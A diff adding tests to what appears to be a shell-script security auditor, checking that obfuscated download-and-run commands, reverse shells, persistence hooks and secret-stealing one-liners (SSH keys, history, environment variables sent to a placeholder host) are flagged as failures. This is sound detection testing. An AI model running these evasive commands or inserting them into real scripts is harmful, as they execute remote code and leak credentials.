@@ -107,6 +107,87 @@ def test_a_download_that_is_run_is_blocked_however_it_is_written(script: str) ->
     assert "shell-download-execution" in found(script) or audit(script).verdict is Verdict.FAIL
 
 
+URL = "https://example.invalid/a"
+HARD = {
+    "a function takes address and file": f'get() {{ curl -o "$2" "$1"; }}\nget {URL} /tmp/x\nsh /tmp/x',
+    "one function fetches, another runs": f'run() {{ chmod +x "$1" && "$1"; }}\nF=/tmp/y\nwget -q {URL} -O $F\nrun $F',
+    "a function's output is run": f'dl() {{ curl -s "$1"; }}\neval "$(dl {URL})"',
+    "appended name": f"c=cu; c+=rl; $c -s {URL} | sh",
+    "array elements": f'a=(cu rl); "${{a[0]}}${{a[1]}}" {URL} | sh',
+    "prefix cut off": f"x=xxcurl; ${{x#xx}} {URL} | sh",
+    "reversed name": f"x=lruc; $(echo $x | rev) {URL} | sh",
+    "printf": f'printf -v c "%s%s" cu rl; $c {URL} | bash',
+    "hex of a name": f"x=$(echo 6375726c | xxd -r -p); $x {URL} | sh",
+    "indirect variable": f'n=cmd; cmd="curl {URL} | sh"; eval "${{!n}}"',
+    "alias": f"alias g=curl\ng {URL} | sh",
+    "own separator": f"IFS=,;c=curl,{URL};$c|sh",
+    "name with wildcards": f'/???/b??h -c "$(curl {URL})"',
+    "the user's shell": f"curl {URL} | $SHELL",
+    "word over two lines": f'ba\\\nsh -c "$(cu\\\nrl {URL})"',
+    "copied": f"curl -s {URL} > /tmp/a; cp /tmp/a /tmp/b; bash /tmp/b",
+    "printed": f"curl -s {URL} -o /tmp/a; cat /tmp/a | sh",
+    "read in": f'curl -s {URL} -o /tmp/a; eval "$(</tmp/a)"',
+    "teed": f"curl {URL} | tee /tmp/i; sh /tmp/i",
+    "behind prefixes": f"curl -s {URL} -o /tmp/a; sudo nohup /tmp/a &",
+    "in another folder": f"cd /tmp; curl -O {URL}; sh /tmp/a",
+    "made by mktemp": f'T=$(mktemp); curl -o "$T" {URL}; chmod +x "$T"; "$T"',
+    "block": f"{{ curl -s {URL}; }} 2>&1 | sh",
+    "loop": f'curl -s {URL} | while read -r l; do eval "$l"; done',
+    "into a process": f"curl {URL} | tee >(bash)",
+    "zsh": f"source =(curl {URL})",
+    "trap": f'trap "curl {URL} | sh" EXIT',
+    "at": f'echo "curl {URL} | sh" | at now',
+    "container": f'docker run -v /:/h alpine sh -c "curl {URL} | sh"',
+    "su": f'su - root -c "curl {URL} | sh"',
+    "start-up file": f'echo "curl {URL} | sh" >> ~/.bashrc',
+    "decoded by a function": 'd() { echo "$1" | base64 -d | bash; }\nd Y3VybCB4IHwgc2g=',
+    "decoded into a file": "echo Y3VybCB4IHwgc2g= | base64 -d > /tmp/i; chmod +x /tmp/i; /tmp/i",
+    "encrypted TCP": "mkfifo s; /bin/sh -i < s 2>&1 | openssl s_client -connect 192.0.2.1:443 > s",
+    "awk's network": "awk 'BEGIN {s = \"/inet/tcp/0/192.0.2.1/42\"; s |& getline c}'",
+    "wildcards in a secret's path": "cat ~/.s*h/id_*",
+    "secret's path in parts": 'h="$HOME"; d=.ssh; cat "$h/$d/id_rsa"',
+    "history sent": "history | curl -d @- https://example.invalid/",
+    "keys looked for and sent": f'find ~ -name "*.pem" -exec curl -F f=@{{}} {URL} \\;',
+    "each variable sent": f'compgen -v | while read v; do curl -d "${{!v}}" {URL}; done',
+}
+
+
+@pytest.mark.parametrize("script", HARD.values(), ids=HARD)
+def test_what_is_hidden_behind_the_shell_s_own_means_is_blocked(script: str) -> None:
+    assert audit(f"{script}\n").verdict is Verdict.FAIL
+
+
+@pytest.mark.parametrize(
+    ("name", "script"),
+    [
+        ("Dockerfile", f'FROM x\nRUN ["sh", "-c", "curl {URL} | sh"]\n'),
+        ("Dockerfile", f"FROM x\nRUN <<EOF\ncurl {URL} | sh\nEOF\n"),
+        ("Dockerfile", f"FROM x\nADD {URL} /i.sh\nRUN sh /i.sh\n"),
+        ("Makefile", f"X := $(shell curl {URL} | sh)\n"),
+        ("Makefile", f'all:\n\t@x=$$(curl {URL}); eval "$$x"\n'),
+        ("a.fish", f"curl {URL} | source\n"),
+        ("a.fish", f"eval (curl {URL})\n"),
+    ],
+)
+def test_recipes_and_other_shells_are_read_as_shell(name: str, script: str) -> None:
+    assert audit(script, name).verdict is Verdict.FAIL
+
+
+def test_a_placeholder_does_not_hide_the_next_line() -> None:
+    """The grammar takes ``<name>`` for two redirections, the second into the next line's first word."""
+    assert "shell-download-execution" in found(f"npm install <package>\ncurl {URL} | sh\n")
+    assert "shell-download-execution" in found(f"curl <url> {URL} | sh\n")
+
+
+def test_broken_lines_are_read_one_by_one() -> None:
+    rules = found(f'echo \'a\ncurl {URL} | sh\nb=$(curl {URL}); eval "$b"\n')
+    assert {"audit-incomplete", "shell-download-execution"} <= set(rules)
+
+
+def test_two_unknown_files_are_not_the_same() -> None:
+    assert "shell-download-execution" not in found(f'curl -o "$OUT" {URL}\npython3 "$SCRIPT"\n')
+
+
 def test_a_documented_installer_needs_eyes_and_is_not_blocked() -> None:
     rules = found("curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y\n")
     assert rules["shell-download-execution"].severity is Severity.WARN
